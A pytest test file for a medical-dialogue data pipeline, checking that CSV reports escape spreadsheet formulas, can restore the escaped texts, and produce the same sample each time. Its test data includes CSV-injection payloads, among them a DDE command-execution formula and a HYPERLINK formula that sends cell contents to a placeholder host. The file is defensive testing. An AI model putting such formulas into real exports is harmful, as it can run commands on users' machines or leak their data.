"""No spreadsheet runs a text of a consultation, and every text can be restored."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lightning_med.data.module import DialogueDataModule
from lightning_med.data.preparation.pipeline import prepare
from lightning_med.data.report.data_report import write_report
from lightning_med.data.report.spreadsheet import escape_formula, format_csv, unescape_formula
from lightning_med.data.splits.group_split import SPLITS
from tests.conftest import consultation

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.io?"&A1,"a")', "\t=1", "\r=1")
TEXTS = st.one_of(st.text(), st.text("'=+-@\t\r\n ,\"a", max_size=8))


def cells(written: str) -> list[list[str]]:
    """The cells that a strict reader finds."""
    return list(csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline=""), strict=True))


@given(TEXTS)
def test_a_text_comes_back_and_begins_with_nothing_that_runs(text: str) -> None:
    safe = escape_formula(text)
    assert unescape_formula(safe) == text
    assert safe[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    assert safe in (text, f"'{text}")


@given(TEXTS, TEXTS)
def test_no_two_texts_become_one(one: str, other: str) -> None:
    assert (escape_formula(one) == escape_formula(other)) == (one == other)


@pytest.mark.parametrize("text", [*FORMULAS, *(f"'{text}" for text in FORMULAS), "''=1+1"])
def test_formulas_and_what_looks_like_an_escaped_one_get_an_apostrophe(text: str) -> None:
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "a=b", "It hurts - badly", "'quoted'", "' =1", "5-7 days", "don't", "1+1=2"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert escape_formula(text) == unescape_formula(text) == text


@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=5))
def test_a_frame_comes_back_from_its_csv(rows: list[tuple[str, str]]) -> None:
    written = format_csv(pd.DataFrame(rows, columns=["question", "answer"], dtype=object))
    assert written.startswith("\ufeff")
    header, *found = cells(written)
    assert header == ["question", "answer"]
    assert [tuple(map(unescape_formula, row)) for row in found] == rows
    assert not [cell for row in found for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_lines_end_as_spreadsheets_expect_and_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"row": [3, -4], "text": ["a\nb", 'c "d", e']})
    assert format_csv(frame) == '\ufeffrow,text\r\n3,"a\nb"\r\n-4,"c ""d"", e"\r\n'


def test_sample_of_a_hostile_table_is_safe_and_whole(cache: Path, tmp_path: Path) -> None:
    """Its texts, and the name of the file too."""
    rows = [
        (f"{FORMULAS[n % 6]} {q}", f"{FORMULAS[-n % 6]} {a}") for n, (q, a) in enumerate(map(consultation, range(60)))
    ]
    with (tmp_path / "=1+1.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("input", "output"), *rows])
    prepared = prepare(DialogueDataModule(str(tmp_path / "=1+1.csv"), "train", 300, max_length=128).recipe)
    write_report(prepared, tmp_path / "report")
    written = (tmp_path / "report" / "sample.csv").read_bytes().decode("utf-8")
    header, *found = cells(written)
    assert len(found) == 60
    assert not [cell for row in found for cell in row if cell[:1] in ("=", "+", "-", "@")]
    sampled = {
        tuple(unescape_formula(row[header.index(name)]) for name in ("source", "question", "answer")) for row in found
    }
    kept = [row for split in SPLITS for row in pq.read_table(prepared.folder / f"{split}.parquet").to_pylist()]
    assert sampled == {(row["source"], row["question"], row["answer"]) for row in kept}
    assert sum(cell.startswith("'=1+1") for row in found for cell in row) >= 60


def test_sample_is_drawn_from_all_splits_and_is_the_same_again(
    cache: Path, consultations: Callable[..., Path], tmp_path: Path
) -> None:
    prepared = prepare(DialogueDataModule(str(consultations(300)), "train", 300, max_length=128).recipe)
    written = []
    for name in ("one", "other"):
        write_report(prepared, tmp_path / name)
        written.append((tmp_path / name / "sample.csv").read_bytes())
    assert written[0] == written[1]
    header, *found = cells(written[0].decode())
    assert len(found) == 200
    assert {row[header.index("split")] for row in found} == set(SPLITS)
    rows = [int(row[header.index("row")]) for row in found]
    assert len(set(rows)) == 200
    assert all(
        (row[header.index("question")], row[header.index("answer")]) == consultation(n)
        for n, row in zip(rows, found, strict=True)
    )
